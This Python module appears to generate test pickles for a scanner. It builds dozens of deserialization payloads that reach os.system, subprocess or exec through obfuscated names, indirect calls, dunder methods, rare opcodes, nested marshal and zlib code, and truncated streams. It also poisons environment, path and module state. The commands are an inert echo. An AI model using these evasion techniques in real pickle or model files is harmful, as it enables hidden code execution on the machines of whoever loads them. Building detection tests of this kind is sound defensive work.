"""Pickles that hide what they call: computed names, indirect calls, odd opcodes."""

import base64
import binascii
import marshal
import pickle
import struct
import zlib

from blind2_kit import AWAY, ECHO, build, call, glob, inst, method, module, new, new_ex
from blind2_kit import obj, pkl, raw, sglob, system, text, value

SYSTEM = glob("os", "system")
NESTED = pkl(system(), 2)
EXPR = "__import__('os').system('echo inert')"
CODE = compile(EXPR, "<m>", "exec")
PARTIAL = call(glob("functools", "partial"), SYSTEM, ECHO)
SPACE = call(glob("types", "SimpleNamespace"))


def fn(module_name, name, *args):
    return call(glob(module_name, name), *args)


def named(first, second):
    """A call of what two computed strings name."""
    return call(first + second + b"\x93", ECHO)


def computed():
    """Names made while the pickle loads, for STACK_GLOBAL."""
    name = text("system")
    rot = fn("codecs", "decode", "flfgrz", "rot13")
    yield "rot13", named(text("os"), rot)
    yield "str.join", named(method(text(""), "join", ["o", "s"]), name)
    yield "operator.concat", named(fn("operator", "concat", "o", "s"), name)
    yield "operator.mod format", named(text("os"), fn("operator", "mod", "sy%sem", "st"))
    yield "str.replace", named(text("os"), method(text("sXstem"), "replace", "X", "y"))
    yield (
        "slice backwards",
        named(
            text("os"), fn("operator", "getitem", "metsys", fn("builtins", "slice", None, None, -1))
        ),
    )
    yield "html.unescape", named(fn("html", "unescape", "&#111;s"), name)
    yield "urllib unquote", named(fn("urllib.parse", "unquote", "%6fs"), name)
    yield "json.loads", named(fn("json", "loads", '"\\u006fs"'), name)
    yield "ast.literal_eval", named(fn("ast", "literal_eval", "'\\x6f\\x73'"), name)
    yield (
        "string.Template",
        named(method(fn("string", "Template", "${a}s"), "substitute", {"a": "o"}), name),
    )
    decoded = fn("binascii", "unhexlify", binascii.hexlify(b"system").decode())
    yield "hex and str()", named(text("os"), fn("builtins", "str", decoded, "ascii"))
    yield (
        "chr and join",
        named(
            method(text(""), "join", [fn("builtins", "chr", 111), fn("builtins", "chr", 115)]), name
        ),
    )
    yield "dict lookup", named(fn("operator", "getitem", {"k": "os"}, "k"), name)
    yield "os.name of a module", named(text("os"), method(text("SYSTEM"), "lower"))
    yield (
        "base64 through str",
        named(text("os"), fn("codecs", "decode", fn("base64", "b64decode", "c3lzdGVt"), "utf8")),
    )


def chains():
    """The function reached by steps that each look innocent."""
    os_module = fn("builtins", "__import__", "os")
    yield "getattr of __import__", call(fn("builtins", "getattr", os_module, "system"), ECHO)
    yield (
        "import_module and vars",
        call(fn("operator", "getitem", fn("builtins", "vars", module("os")), "system"), ECHO),
    )
    yield "attrgetter", call(call(fn("operator", "attrgetter", "system"), module("os")), ECHO)
    yield "methodcaller", call(fn("operator", "methodcaller", "system", ECHO), module("os"))
    yield (
        "methodcaller popen of subprocess",
        call(fn("operator", "methodcaller", "getoutput", ECHO), module("subprocess")),
    )
    yield (
        "sys.modules get",
        call(method(call(sglob("sys", "modules.get"), "os"), "__getattribute__", "system"), ECHO),
    )
    for owner in ("shutil", "random", "pathlib", "logging", "numpy.lib._datasource"):
        inner = {"random": "_os", "numpy.lib._datasource": "os"}.get(owner, "os")
        yield f"dotted name through {owner}", call(sglob(owner, f"{inner}.system"), ECHO)
    yield (
        "dotted name through torch.serialization",
        call(sglob("torch.serialization", "os.system"), ECHO),
    )
    yield "dotted name through joblib", call(sglob("joblib.memory", "os.system"), ECHO)
    yield (
        "dotted name through collections",
        method(call(sglob("collections", "_sys.modules.__getitem__"), "os"), "system", ECHO),
    )
    wrap = sglob("os", "_wrap_close.__init__.__globals__.__getitem__")
    yield "dotted __globals__ of a class", call(call(wrap, "system"), ECHO)
    yield "dotted name through sklearn", call(sglob("sklearn.datasets._base", "os.system"), ECHO)
    yield "dotted name through tempfile", call(sglob("tempfile", "_os.system"), ECHO)
    yield "resolve_name then call", call(fn("pkgutil", "resolve_name", "os:system"), ECHO)
    yield "pydoc.locate then call", call(fn("pydoc", "locate", "os.system"), ECHO)
    yield (
        "logging.config resolve",
        call(method(fn("logging.config", "BaseConfigurator", {}), "resolve", "os.system"), ECHO),
    )
    yield (
        "xmlrpc resolve_dotted_attribute",
        call(fn("xmlrpc.server", "resolve_dotted_attribute", module("os"), "system"), ECHO),
    )
    yield (
        "inspect.getattr_static",
        call(fn("inspect", "getattr_static", module("os"), "system"), ECHO),
    )
    names = method(module("os"), "__getattribute__", "__dict__")
    yield "__dict__ by __getattribute__", call(fn("operator", "getitem", names, "system"), ECHO)


def indirect():
    """Functions called by functions."""
    yield "map and list", fn("builtins", "list", fn("builtins", "map", SYSTEM, [ECHO]))
    yield (
        "starmap and deque",
        fn("collections", "deque", fn("itertools", "starmap", SYSTEM, [(ECHO,)])),
    )
    yield "filter and tuple", fn("builtins", "tuple", fn("builtins", "filter", SYSTEM, [ECHO]))
    yield "iter with sentinel", fn("builtins", "list", fn("builtins", "iter", PARTIAL, 0))
    yield "partial", call(PARTIAL)
    yield "partial by NEWOBJ_EX", call(new_ex(glob("functools", "partial"), [SYSTEM, ECHO], {}))
    yield (
        "partial by NEWOBJ and BUILD",
        call(
            build(
                new(glob("functools", "partial"), glob("builtins", "print")),
                (SYSTEM, (ECHO,), {}, {}),
            )
        ),
    )
    yield (
        "Popen keywords through partial",
        call(
            new_ex(
                glob("functools", "partial"),
                [glob("subprocess", "Popen")],
                {"args": ECHO, "shell": True},
            )
        ),
    )
    yield "MethodType", call(fn("types", "MethodType", SYSTEM, ECHO))
    yield "lru_cache", call(fn("functools", "lru_cache", SYSTEM), ECHO)
    yield "singledispatch", call(fn("functools", "singledispatch", SYSTEM), ECHO)
    yield (
        "staticmethod __func__",
        call(fn("builtins", "getattr", fn("builtins", "staticmethod", SYSTEM), "__func__"), ECHO),
    )
    yield (
        "defaultdict factory",
        fn("operator", "getitem", fn("collections", "defaultdict", PARTIAL), "x"),
    )
    yield "numpy frompyfunc", call(fn("numpy", "frompyfunc", SYSTEM, 1, 1), ECHO)
    found = fn("functools", "reduce", glob("builtins", "getattr"), ["system"], module("os"))
    yield "reduce of getattr", call(found, ECHO)
    yield (
        "ThreadPool map",
        method(fn("multiprocessing.pool", "ThreadPool", 1), "map", SYSTEM, [ECHO]),
    )
    yield "operator.call", fn("operator", "call", SYSTEM, ECHO)
    yield "sorted by map", fn("builtins", "sorted", fn("builtins", "map", SYSTEM, [ECHO]))
    yield (
        "dict.fromkeys of map",
        call(
            fn("builtins", "getattr", glob("builtins", "dict"), "fromkeys"),
            fn("builtins", "map", SYSTEM, [ECHO]),
        ),
    )
    yield "Pool initializer", fn("multiprocessing.pool", "ThreadPool", 1, SYSTEM, (ECHO,))


def classes():
    """Objects whose own methods do the work."""
    state = {"__setstate__": SYSTEM}
    yield "BUILD sets __setstate__, BUILD calls it", build(build(SPACE, state), ECHO)
    yield "APPEND calls append", build(SPACE, {"append": SYSTEM}) + text(ECHO) + b"a"
    state = {"extend": glob("subprocess", "call")}
    yield "APPENDS calls extend", build(SPACE, state) + b"(" + text("echo") + text("a") + b"e"
    made = glob("builtins", "type")
    base = call(made, "B", (), {"__init_subclass__": PARTIAL})
    yield "__init_subclass__", call(made, "C", (base,), {})
    hashed = call(call(made, "H", (), {"__hash__": PARTIAL}))
    yield "__hash__ of a key", b"}" + hashed + b"Ns"
    yield "__hash__ in a set", b"\x8f(" + hashed + b"\x90"
    yield "__del__", call(call(made, "D", (), {"__del__": PARTIAL})) + b"0N"
    yield "__hash__ in a frozenset", b"(" + hashed + b"\x91"
    yield "__str__", fn("builtins", "str", call(call(made, "S", (), {"__str__": PARTIAL})))
    yield "__bool__", fn("operator", "not_", call(call(made, "T", (), {"__bool__": PARTIAL})))
    yield "__len__", fn("builtins", "len", call(call(made, "L", (), {"__len__": PARTIAL})))
    yield "sys.path by APPEND", sglob("sys", "path") + text(AWAY) + b"a"
    yield "os.environ by SETITEM", sglob("os", "environ") + text("LD_PRELOAD") + text(AWAY) + b"s"
    yield "builtins.print replaced", sglob("builtins", "__dict__") + text("print") + SYSTEM + b"s"
    fake = build(SPACE, {"loads": SYSTEM})
    yield "sys.modules by SETITEMS", sglob("sys", "modules") + b"(" + text("json") + fake + b"u"


def opcodes():
    """Rare opcodes and streams that readers part ways on."""
    ext = fn("copyreg", "add_extension", "os", "system", 240) + b"0"
    yield "EXT1", ext + call(b"\x82\xf0", ECHO)
    ext = fn("copyreg", "add_extension", "os", "system", 60000) + b"0"
    yield "EXT2", ext + call(b"\x83" + struct.pack("<H", 60000), ECHO)
    ext = fn("copyreg", "add_extension", "os", "system", 7000000) + b"0"
    yield "EXT4", ext + call(b"\x84" + struct.pack("<i", 7000000), ECHO)
    yield "DUP of the module", text("os") + b"20" + text("system") + b"\x93" + value((ECHO,)) + b"R"
    yield (
        "memo with large index",
        SYSTEM + b"r\xff\xff\0\0" + b"0j\xff\xff\0\0" + value((ECHO,)) + b"R",
    )
    yield "memo PUT and GET in text", SYSTEM + b"p17\n0g17\n" + value((ECHO,)) + b"R"
    yield (
        "names from the memo",
        (
            text("os")
            + b"\x94"
            + text("system")
            + b"\x94"
            + b"00h\x00h\x01\x93"
            + value((ECHO,))
            + b"R"
        ),
    )
    yield (
        "memo entry overwritten",
        (
            glob("collections", "OrderedDict")
            + b"q\x010"
            + SYSTEM
            + b"q\x010h\x01"
            + value((ECHO,))
            + b"R"
        ),
    )
    yield "POP_MARK hides a call", b"(" + system() + b"1" + value({"a": 1})
    yield "POP hides a call", system() + b"0" + value([1, 2, 3])
    yield "OBJ then POP", obj(SYSTEM, ECHO) + b"0N"
    yield "INST then POP", inst("os", "system", ECHO) + b"0}"
    yield (
        "unicode escapes in a name",
        (b"V\\u006f\\u0073\nV\\u0073\\u0079stem\n\x93" + value((ECHO,)) + b"R"),
    )
    yield "string escapes in a name", b"S'\\x6fs'\nS'sys\\x74em'\n\x93" + value((ECHO,)) + b"R"
    yield "double quotes in STRING", b'S"os"\nS"system"\n\x93' + value((ECHO,)) + b"R"
    yield "two PROTO", b"\x80\x02\x80\x04" + system()
    yield "PROTO between arguments", SYSTEM + b"(" + text(ECHO) + b"\x80\x02tR"
    yield "long padding before", b"N0" * 150_000 + system()
    yield "long command", system(ECHO + " " * 300_000)
    yield "TUPLE1", SYSTEM + text(ECHO) + b"\x85R"
    yield (
        "BINBYTES8 to pickle.loads",
        fn("pickle", "loads", b"\x8e" + struct.pack("<Q", len(NESTED)) + NESTED),
    )
    yield (
        "BYTEARRAY8 to pickle.loads",
        fn("pickle", "loads", b"\x96" + struct.pack("<Q", len(NESTED)) + NESTED),
    )
    yield (
        "BINUNICODE8 names",
        call(
            b"\x8d" + struct.pack("<Q", 2) + b"os" + b"\x8d" + struct.pack("<Q", 6) + b"system\x93",
            ECHO,
        ),
    )
    framed = sglob("os", "system")
    yield "frame", b"\x95" + struct.pack("<Q", len(framed)) + framed + value((ECHO,)) + b"R"
    yield "deep lists before", b"]" * 4000 + b"0" * 4000 + system()


def nested():
    """Pickles and code objects inside."""
    code = marshal.dumps(CODE)
    packed = base64.b64encode(zlib.compress(code)).decode()
    function = fn("types", "FunctionType", fn("marshal", "loads", raw(code)), {})
    yield "FunctionType of marshal", call(function)
    yield "exec of marshal", fn("builtins", "exec", fn("marshal", "loads", raw(code)))
    unpacked = fn("zlib", "decompress", fn("base64", "b64decode", packed))
    yield (
        "exec of marshal of zlib of base64",
        fn("builtins", "exec", fn("marshal", "loads", unpacked)),
    )
    yield "compile and eval", fn("builtins", "eval", fn("builtins", "compile", EXPR, "a", "eval"))
    for owner in ("_pickle", "dill", "cloudpickle"):
        yield f"loads of {owner}", fn(owner, "loads", raw(NESTED))
    yield "loads by a dotted name", call(sglob("pandas.io.pickle", "pickle.loads"), raw(NESTED))
    yield "torch.storage._load_from_bytes", fn("torch.storage", "_load_from_bytes", raw(NESTED))
    stream = fn("io", "BytesIO", raw(NESTED))
    yield "Unpickler.load", method(fn("_pickle", "Unpickler", stream), "load")
    yield "joblib numpy_pickle", fn("joblib.numpy_pickle", "load", stream)
    yield (
        "ForkingPickler",
        call(sglob("multiprocessing.reduction", "ForkingPickler.loads"), raw(NESTED)),
    )
    yield "numpy.load of BytesIO", fn("numpy", "load", stream, None, True)
    three = NESTED
    for _ in range(6):
        three = pkl(fn("pickle", "loads", raw(three)), 3)
    yield "seven pickles deep", fn("pickle", "loads", raw(three))
    yield (
        "gzip of a nested pickle",
        fn("pickle", "loads", fn("zlib", "decompress", raw(zlib.compress(NESTED, 9)))),
    )


GROUPS = (computed, chains, indirect, classes, opcodes, nested)


def tricks():
    for group in GROUPS:
        for technique, body in group():
            yield f"{technique} ({group.__name__})", body


def streams():
    """Whole streams, in which something comes before, after or instead of STOP."""
    good = pickle.dumps({"weights": [0.1, 0.2], "bias": 0.3}, 4)
    whole = pkl(system(), 2)
    yield "no STOP", whole[:-1]
    yield "cut off in an argument", whole[:-1] + b"X\xff\0\0\0abc"
    yield "unknown opcode after", whole[:-1] + b"\xfe\xfe."
    yield "stack underflow after", whole[:-1] + b"0000tttt."
    yield "bad UTF-8 after", whole[:-1] + b"X\x02\0\0\0\xff\xfe."
    yield "missing memo after", whole[:-1] + b"h\xee."
    yield "second stream", good + whole
    yield "fifth stream after padding", good * 4 + whole
    yield "no PROTO", system() + b"."
    yield "text protocol only", b"(cos\nsystem\nS'echo inert'\no."
    yield "protocol 1 INST", b"(S'echo inert'\nios\nsystem\n."
    yield "protocol 5", pkl(system(), 5)
    yield "protocol 3", pkl(call(glob("posix", "system"), ECHO), 3)
    yield "__builtin__ in protocol 2", pkl(call(glob("__builtin__", "eval"), EXPR), 2)
    yield (
        "payload after large bytes",
        pkl(value({"w": bytearray(bytes(3_000_000))}) + b"0" + system()),
    )
    long_frame = b"\x95" + struct.pack("<Q", 9) + b"cos\nsyste" + b"m\n" + value((ECHO,)) + b"R."
    yield "payload across a frame", b"\x80\x04" + long_frame
